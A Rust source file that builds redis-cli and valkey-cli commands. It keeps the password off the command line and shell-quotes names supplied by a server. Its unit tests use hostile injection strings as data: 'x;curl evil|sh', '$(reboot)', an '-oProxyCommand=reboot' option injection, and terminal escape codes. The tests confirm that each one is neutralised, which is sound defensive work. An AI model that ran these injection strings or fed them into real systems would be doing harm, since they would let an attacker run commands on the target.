//! What a person pastes into a shell: words that a server chose, and a password that stands on no command line.

/// Words that redis-cli and valkey-cli read last from a file: PWFILE, which holds the password and nothing else. Of a
/// file that is missing or empty nothing is sent: a server takes the empty word, answers `OK`, and has no password any
/// more (Redis 7.0.15, Valkey 8.0.1). `pipefail` would be of no help, since what is behind a pipe runs all the same.
///
/// `printf` is the shell's own, and `-x` reads the last argument from standard input, so no `ps` shows it. `format` is
/// printf's, with one `%s`.
pub fn from_file(format: &str, cli: &str) -> String {
    format!("grep -q . PWFILE && printf '{format}' \"$(cat PWFILE)\" | {cli} -x")
}

/// The same password as the login of a command. redis-cli and valkey-cli of every version read this variable.
pub fn logged_in(cli: &str) -> String {
    format!("grep -q . PWFILE && REDISCLI_AUTH=\"$(cat PWFILE)\" {cli}")
}

/// One word of a shell's command. Names of hosts, users and directories are what servers say they are.
pub fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._:/@%+=-".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_owned();
    }
    let tame: String = text.chars().map(|c| if c.is_control() { '?' } else { c }).collect();
    format!("'{}'", tame.replace('\'', "'\\''"))
}

/// The same where a program would take a word that begins with `-` for an option.
pub fn operand(text: &str) -> String {
    if text.starts_with('-') { format!("-- {}", quoted(text)) } else { quoted(text) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_server_says_is_one_word_of_the_command_that_a_person_pastes() {
        for (text, word) in [
            ("10.0.0.1", "10.0.0.1"),
            ("fe80::1%eth0", "fe80::1%eth0"),
            ("/var/lib/redis", "/var/lib/redis"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("$(reboot)", "'$(reboot)'"),
            ("it's", "'it'\\''s'"),
            ("a\nb\u{1b}[2J", "'a?b?[2J'"),
            ("", "''"),
        ] {
            assert_eq!((quoted(text), operand(text)), (word.to_owned(), word.to_owned()));
        }
        assert_eq!(operand("-oProxyCommand=reboot"), "-- -oProxyCommand=reboot");
    }
}
